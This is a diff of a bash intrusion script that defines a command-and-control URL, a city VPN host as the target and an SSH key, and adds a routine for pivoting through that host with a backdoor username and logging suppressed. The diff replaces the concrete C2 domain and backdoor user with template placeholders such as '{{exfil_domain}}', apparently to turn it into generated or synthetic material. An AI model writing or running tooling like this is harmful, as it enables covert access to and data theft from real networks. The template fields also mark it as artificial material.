@@ -2,7 +2,7 @@
 OPS=/root/ops
 KEY=$OPS/id_ed25519
 TARGET=vpn.city.minato.example
-C2=http://sync.cloudbox-jp.example:8080
+C2=http://{{exfil_domain}}:8080
 SSHO="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=8"
 
 log() { echo "$(date -u +%FT%TZ) $*" >> "$OPS/op.log"; }
@@ -30,7 +30,7 @@ tunnels() { "$@" -W localhost:22 </dev/null 2>/dev/null | head -c 4 | grep -q SS
 
 # A working way through vpn01: sets VIA (an ssh command for ProxyCommand) and USER_ON_VPN.
 vpn_access() {
-    for u in sysmaint hoshu; do
+    for u in {{backdoor_user}} hoshu; do
         if [ -f "$KEY" ] && tunnels ssh $SSHO -o BatchMode=yes -i "$KEY" "$u@$TARGET"; then
             VIA="ssh $SSHO -o BatchMode=yes -i $KEY $u@$TARGET"; USER_ON_VPN=$u; return 0
         fi
